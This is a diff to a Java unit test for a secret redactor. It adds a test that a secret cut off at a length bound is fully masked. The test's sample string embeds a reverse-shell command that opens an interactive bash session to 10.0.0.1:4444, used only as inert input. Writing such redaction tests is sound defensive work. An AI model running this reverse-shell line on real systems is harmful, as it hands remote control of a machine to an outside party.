@@ -61,6 +61,13 @@ class SecretRedactorTest {
     }
 
     @Test
+    void aKnownSecretCutAtTheEvidenceBoundLeavesNoPrefix() {
+        String cut = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; echo hunter2-fr...(300 chars)";
+        assertThat(SecretRedactor.redact(cut, List.of("hunter2-from-env")))
+                .isEqualTo("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; echo <redacted:env>...(300 chars)");
+    }
+
+    @Test
     void invalidUtf8AroundASecretSurvivesByteForByte() {
         byte[] raw = {(byte) 0xff, 'A', 'P', 'I', '_', 'K', 'E', 'Y', '=', 'z', 'z', 'z', 'z', ' ', (byte) 0xc3};
         byte[] out = SecretRedactor.redact(raw);
